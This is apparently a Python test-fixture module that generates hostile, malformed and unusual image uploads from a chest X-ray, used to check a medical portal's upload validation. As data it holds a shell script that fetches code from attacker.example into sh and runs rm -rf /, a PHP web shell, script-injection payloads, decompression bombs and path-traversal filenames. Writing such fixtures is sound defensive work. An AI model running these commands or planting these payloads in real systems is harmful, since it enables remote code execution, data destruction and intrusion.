"""A corpus of hostile, broken and unusual uploads, generated from one real chest X-ray.

Each case says what the portal must do with it: REFUSE it with a message naming the problem, or
ACCEPT it and store a clean PNG of the expected size. Damaged files that still decode (a flipped bit
in the middle of the pixels) may go EITHER way, but must never crash anything. Nothing here is
downloaded: the files are built with Pillow, pydicom and the standard library.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from dataclasses import dataclass

import numpy as np
from PIL import Image, PngImagePlugin

from ml.constants import DEFAULT_DATA_DIR, MAX_IMAGE_PIXELS
from tests.ml.dicom_files import dicom_bytes

REFUSE, ACCEPT, EITHER = "refuse", "accept", "either"
NOT_AN_IMAGE = "not a JPEG, PNG or DICOM"
DAMAGED = "damaged"
TOO_LARGE = "too large"
SEVERAL_FRAMES = "several frames"
# What every refusal must contain: an instruction the patient can follow.
ACTIONABLE = ("upload", "export", "check")


@dataclass(frozen=True)
class Case:
    label: str  # short, unique: the test id
    filename: str  # as the browser sends it
    data: bytes
    expect: str  # REFUSE, ACCEPT or EITHER
    reason: str = ""  # for REFUSE: a fragment of the message the patient must see
    size: tuple[int, int] | None = None  # for ACCEPT: (width, height) of the stored PNG
    shown_name: str | None = None  # for ACCEPT: the name the portal keeps, when it differs
    payload: bytes = b""  # bytes of the hostile part that must not reach storage
    same_reading_as_plain: bool = False  # a legitimate variant of the plain X-ray: the reading must match
    hostile: bool = True  # False for plain encodings, which re-encoding may reproduce byte for byte


# --- The source X-ray and its plain encodings ------------------------------------------------------


def source_xray() -> np.ndarray:
    """A real chest X-ray as 8-bit grey pixels, at least 512 pixels wide so variants keep detail."""
    path = sorted((DEFAULT_DATA_DIR / "NORMAL").glob("*.jpeg"))[0]
    grey = Image.open(path).convert("L")
    if grey.width < 512:
        grey = grey.resize((512, round(512 * grey.height / grey.width)), Image.Resampling.BICUBIC)
    return np.asarray(grey)


def encode(image: Image.Image, fmt: str, **options) -> bytes:
    buffer = io.BytesIO()
    image.save(buffer, fmt, **options)
    return buffer.getvalue()


def png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_header_only(width: int, height: int) -> bytes:
    """A PNG that declares a size and holds no pixels: the cheapest decompression-bomb probe."""
    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", header) + png_chunk(b"IEND", b"")


def png_of_zeros(width: int, height: int) -> bytes:
    """A real, complete PNG of black pixels: megapixels that compress to a few kilobytes."""
    compressor = zlib.compressobj(9)
    row = bytes(width + 1)  # filter byte + pixels
    body = b"".join(compressor.compress(row) for _ in range(height)) + compressor.flush()
    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", header) + png_chunk(b"IDAT", body) + png_chunk(b"IEND", b"")


def jpeg_with_size(jpeg: bytes, width: int, height: int) -> bytes:
    """The JPEG with its frame header (SOF0) claiming another size."""
    at = jpeg.index(b"\xff\xc0")
    return jpeg[: at + 5] + struct.pack(">HH", height, width) + jpeg[at + 9 :]


def flip_bits(data: bytes, positions: list[int]) -> bytes:
    flipped = bytearray(data)
    for position in positions:
        flipped[position] ^= 0x10
    return bytes(flipped)


def apng(frames: list[Image.Image]) -> bytes:
    return encode(frames[0], "PNG", save_all=True, append_images=frames[1:], duration=100, loop=0)


def zip_of(name: str, content: bytes) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(name, content)
    return buffer.getvalue()


PE_HEADER = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 44 + b"\x80\x00\x00\x00"
PE_STUB = b"This program cannot be run in DOS mode.\r\r\n$"
EXECUTABLE = PE_HEADER + PE_STUB + b"\x00" * 64 + b"PE\x00\x00\x4c\x01"
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00" + b"\x00" * 100
HTML = b"<!doctype html><html><body><script>fetch('/scans/').then(r=>r.text()).then(alert)</script></body></html>"
SVG = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="512" height="512" '
    b'onload="alert(document.cookie)"><script>alert(1)</script><rect width="512" height="512"/></svg>'
)
PDF = (
    b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n"
    b"2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
)
SHELL = b"#!/bin/sh\ncurl -s http://attacker.example/x | sh\nrm -rf --no-preserve-root /\n"
PHP = b"<?php system($_GET['c']); ?>"
PYTHON = b"import os\nos.system('id > /tmp/pwned')\n"
SCRIPT_MARK = b"<script>alert('polyglot')</script>"


# --- The corpus ------------------------------------------------------------------------------------


def build_corpus() -> list[Case]:
    grey = source_xray()
    height, width = grey.shape
    image = Image.fromarray(grey, mode="L")
    jpeg = encode(image, "JPEG", quality=92)
    png = encode(image, "PNG")
    size = (width, height)
    dicom = dicom_bytes(grey.astype(np.uint16) * 257)
    cases: list[Case] = []
    add = cases.append

    # Not images at all, named as images.
    for label, filename, data in [
        ("html-as-jpg", "report.jpg", HTML),
        ("html-as-png", "index.png", HTML),
        ("svg-as-png", "drawing.png", SVG),
        ("svg-as-jpg", "drawing.jpg", SVG),
        ("pdf-as-jpg", "letter.jpg", PDF),
        ("pdf-as-dcm", "letter.dcm", PDF),
        ("zip-as-png", "archive.png", zip_of("xray.png", png)),
        ("zip-as-dcm", "study.dcm", zip_of("IM0001.dcm", dicom)),
        ("exe-as-jpg", "setup.jpg", EXECUTABLE),
        ("exe-as-dcm", "viewer.dcm", EXECUTABLE),
        ("elf-as-png", "binary.png", ELF),
        ("shell-script-as-jpg", "run.jpg", SHELL),
        ("php-as-png", "shell.php.png", PHP),
        ("python-as-dcm", "tool.dcm", PYTHON),
        ("plain-text-as-jpg", "note.jpg", b"Dear doctor, please find the X-ray attached.\n"),
        ("random-bytes-as-png", "noise.png", bytes(np.random.default_rng(6).integers(0, 256, 8192, dtype=np.uint8))),
    ]:
        add(Case(label, filename, data, REFUSE, NOT_AN_IMAGE, payload=data[:64]))

    # Real images, but in formats the portal does not take, named as ones it does.
    for label, filename, fmt, options in [
        ("gif-as-jpg", "xray.jpg", "GIF", {}),
        ("bmp-as-png", "xray.png", "BMP", {}),
        ("tiff-as-jpg", "xray.jpg", "TIFF", {}),
        ("webp-as-png", "xray.png", "WEBP", {}),
        ("jpeg2000-as-dcm", "xray.dcm", "JPEG2000", {}),
    ]:
        add(Case(label, filename, encode(image, fmt, **options), REFUSE, NOT_AN_IMAGE))

    # Polyglots: a valid image with something else riding along. The image is read; the rest never stored.
    add(Case("jpeg-then-html", "xray.jpg", jpeg + HTML, ACCEPT, size=size, payload=b"<script>"))
    add(Case("png-then-script", "xray.png", png + SCRIPT_MARK, ACCEPT, size=size, payload=SCRIPT_MARK))
    add(Case("jpeg-then-zip", "xray.jpg", jpeg + zip_of("run.sh", SHELL), ACCEPT, size=size, payload=b"PK\x03\x04"))
    add(Case("png-then-exe", "xray.png", png + EXECUTABLE, ACCEPT, size=size, payload=PE_STUB))
    html_text = PngImagePlugin.PngInfo()
    html_text.add_text("Comment", SCRIPT_MARK.decode())
    add(Case("png-text-chunk-script", "xray.png", encode(image, "PNG", pnginfo=html_text), ACCEPT, size=size,
             payload=SCRIPT_MARK))  # fmt: skip
    add(Case("jpeg-comment-script", "xray.jpg", encode(image, "JPEG", comment=SCRIPT_MARK), ACCEPT, size=size,
             payload=SCRIPT_MARK))  # fmt: skip
    add(Case("dicom-preamble-exe", "xray.dcm", EXECUTABLE[:128].ljust(128, b"\x00") + dicom[128:], ACCEPT,
             size=size, payload=PE_STUB))  # fmt: skip
    add(Case("dicom-preamble-html", "xray.dcm", HTML[:128].ljust(128, b" ") + dicom[128:], ACCEPT, size=size,
             payload=b"<script>"))  # fmt: skip
    add(Case("png-signature-then-html", "xray.png", png[:8] + HTML, REFUSE, DAMAGED))
    add(Case("jpeg-marker-then-html", "xray.jpg", b"\xff\xd8\xff\xe0" + HTML, REFUSE, DAMAGED))
    add(Case("dicom-magic-then-script", "xray.dcm", bytes(128) + b"DICM" + SHELL, REFUSE, "DICOM file"))

    # Truncated files.
    for fraction in (0.1, 0.5, 0.9):
        percent = int(fraction * 100)
        add(Case(f"jpeg-cut-{percent}", "xray.jpg", jpeg[: int(len(jpeg) * fraction)], REFUSE, DAMAGED))
        add(Case(f"png-cut-{percent}", "xray.png", png[: int(len(png) * fraction)], REFUSE, DAMAGED))
        add(Case(f"dicom-cut-{percent}", "xray.dcm", dicom[: int(len(dicom) * fraction)], REFUSE, DAMAGED))
    add(Case("jpeg-header-only", "xray.jpg", jpeg[:200], REFUSE, DAMAGED))

    # Flipped bits: in a header they break the file; in the pixels they may only spoil the picture.
    add(Case("png-header-bit-flip", "xray.png", flip_bits(png, [20]), REFUSE, NOT_AN_IMAGE))
    add(Case("jpeg-header-bit-flips", "xray.jpg", flip_bits(jpeg, [2, 3, 6]), EITHER))
    rng = np.random.default_rng(2026)
    add(Case("png-pixel-bit-flips", "xray.png", flip_bits(png, sorted(rng.integers(100, len(png) - 20, 8))), EITHER))
    add(Case("jpeg-pixel-bit-flips", "xray.jpg", flip_bits(jpeg, sorted(rng.integers(700, len(jpeg) - 20, 8))),
             EITHER))  # fmt: skip
    add(Case("dicom-pixel-bit-flips", "xray.dcm", flip_bits(dicom, sorted(rng.integers(len(dicom) - 4000,
             len(dicom) - 10, 8))), ACCEPT, size=size))  # fmt: skip
    add(Case("dicom-header-bit-flips", "xray.dcm", flip_bits(dicom, [140, 141, 150]), EITHER))

    # Decompression bombs: huge sizes in small files, above the portal's limit or even Pillow's.
    add(Case("png-bomb-header-10gpx", "bomb.png", png_header_only(100_000, 100_000), REFUSE, TOO_LARGE))
    add(Case("png-bomb-header-225mpx", "bomb.png", png_header_only(15_000, 15_000), REFUSE, TOO_LARGE))
    side = int((MAX_IMAGE_PIXELS * 1.2) ** 0.5)
    add(Case("png-bomb-real-36mpx", "bomb.png", png_of_zeros(side, side), REFUSE, TOO_LARGE))
    add(Case("jpeg-bomb-header-4gpx", "bomb.jpg", jpeg_with_size(jpeg, 65_000, 65_000), REFUSE, TOO_LARGE))
    add(Case("jpeg-bomb-header-36mpx", "bomb.jpg", jpeg_with_size(jpeg, side, side), REFUSE, TOO_LARGE))
    add(Case("dicom-bomb-header", "bomb.dcm", dicom_bytes(np.zeros((64, 64), np.uint16), Rows=65_535,
             Columns=65_535), REFUSE, TOO_LARGE))  # fmt: skip

    # Empty and oversized.
    for filename in ("empty.jpg", "empty.png", "empty.dcm"):
        add(Case(f"zero-bytes-{filename}", filename, b"", REFUSE, "empty"))
    add(Case("oversize-jpeg", "huge.jpg", jpeg + bytes(31 * 1024 * 1024), REFUSE, "the limit is 30 MB"))

    # Several frames: an animation, a multi-frame DICOM, a multi-picture JPEG.
    frames = [image, image.transpose(Image.Transpose.FLIP_LEFT_RIGHT)]
    add(Case("animated-png", "xray.png", apng(frames), REFUSE, SEVERAL_FRAMES))
    add(Case("animated-gif-as-png", "xray.png", encode(frames[0], "GIF", save_all=True, append_images=frames[1:]),
             REFUSE, NOT_AN_IMAGE))  # fmt: skip
    add(Case("multi-page-tiff-as-jpg", "xray.jpg", encode(frames[0], "TIFF", save_all=True, append_images=frames[1:]),
             REFUSE, NOT_AN_IMAGE))  # fmt: skip
    add(Case("multi-picture-jpeg", "xray.jpg", encode(frames[0].convert("RGB"), "MPO", save_all=True,
             append_images=[frames[1].convert("RGB")]), REFUSE, SEVERAL_FRAMES))  # fmt: skip
    stack = np.stack([grey, grey]).astype(np.uint16) * 257
    add(Case("multi-frame-dicom", "xray.dcm", dicom_bytes(stack, NumberOfFrames=2), REFUSE, SEVERAL_FRAMES))

    # Legitimate but unusual encodings of the same X-ray: accepted and read as the plain one is.
    def variant(label, filename, data):
        add(Case(label, filename, data, ACCEPT, size=size, same_reading_as_plain=True, hostile=False))

    variant("plain-jpeg", "plain.jpg", jpeg)
    variant("plain-png", "plain.png", png)
    variant("cmyk-jpeg", "cmyk.jpg", encode(image.convert("CMYK"), "JPEG", quality=95))
    variant("rgb-png", "rgb.png", encode(image.convert("RGB"), "PNG"))
    variant("palette-png", "palette.png", encode(image.convert("P"), "PNG"))
    variant("palette-png-transparent-index", "palette-t.png", encode(image.convert("P"), "PNG", transparency=255))
    variant("rgba-png-opaque", "rgba.png", encode(image.convert("RGBA"), "PNG"))
    variant("grey-alpha-png", "la.png", encode(image.convert("LA"), "PNG"))
    variant("16-bit-png", "sixteen.png", encode(Image.fromarray(grey.astype(np.uint16) * 257), "PNG"))
    variant("interlaced-png", "adam7.png", _interlaced_png(grey))
    variant("progressive-jpeg", "progressive.jpg", encode(image, "JPEG", quality=92, progressive=True))
    variant("dicom-16-bit", "xray.dcm", dicom)
    variant("dicom-8-bit", "eight.dcm", dicom_bytes(grey, bits_stored=8))
    variant("dicom-monochrome1", "inverted.dcm", dicom_bytes(65535 - grey.astype(np.uint16) * 257, "MONOCHROME1"))
    variant("exif-rotated-jpeg", "rotated.jpg", _exif_rotated(image))
    add(Case("one-bit-png", "bilevel.png", encode(image.convert("1"), "PNG"), ACCEPT, size=size))

    # Hostile names on a valid X-ray, exported with the patient's name in its metadata as viewers do:
    # the name is kept only as display text, never as a path, and the metadata is not kept at all.
    exported = PngImagePlugin.PngInfo()
    exported.add_text("PatientName", "Doe^Jane")
    named = encode(image, "PNG", pnginfo=exported)
    for label, filename, shown in [
        ("name-path-traversal", "../../../../etc/cron.d/evil.png", "evil.png"),
        ("name-windows-traversal", "..\\..\\..\\Windows\\System32\\evil.png", "evil.png"),
        ("name-absolute-path", "/var/www/static/evil.png", "evil.png"),
        ("name-crlf", "scan&#13;&#10;Set-Cookie: session=stolen.png", "scanSet-Cookie: session=stolen.png"),
        ("name-nul", "scan\x00.php.png", "scan.php.png"),
        ("name-right-to-left", "report\u202egnp.exe", "reportgnp.exe"),
        ("name-300-characters", "x" * 296 + ".png", "x" * 251 + ".png"),
        ("name-html", "<img src=x onerror=alert(1)>.png", "<img src=x onerror=alert(1)>.png"),
        ("name-only-dots", "....", "upload"),
    ]:
        add(Case(label, filename, named, ACCEPT, size=size, shown_name=shown, payload=b"Doe^Jane"))
    return cases


def _interlaced_png(grey: np.ndarray) -> bytes:
    """Pillow cannot write Adam7; zlib can. Interlaced PNGs come from older scanners' software."""
    height, width = grey.shape
    passes = [(0, 0, 8, 8), (4, 0, 8, 8), (0, 4, 4, 8), (2, 0, 4, 4), (0, 2, 2, 4), (1, 0, 2, 2), (0, 1, 1, 2)]
    raw = b""
    for x0, y0, dx, dy in passes:
        sub = grey[y0::dy, x0::dx]
        if sub.size:
            raw += b"".join(b"\x00" + row.tobytes() for row in sub)
    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 1)
    body = zlib.compress(raw, 9)
    return b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", header) + png_chunk(b"IDAT", body) + png_chunk(b"IEND", b"")


def _exif_rotated(image: Image.Image) -> bytes:
    """A phone photo of a radiograph: pixels stored on their side, EXIF orientation 6 says turn them."""
    exif = Image.Exif()
    exif[0x0112] = 6
    return encode(image.transpose(Image.Transpose.ROTATE_90), "JPEG", quality=92, exif=exif)
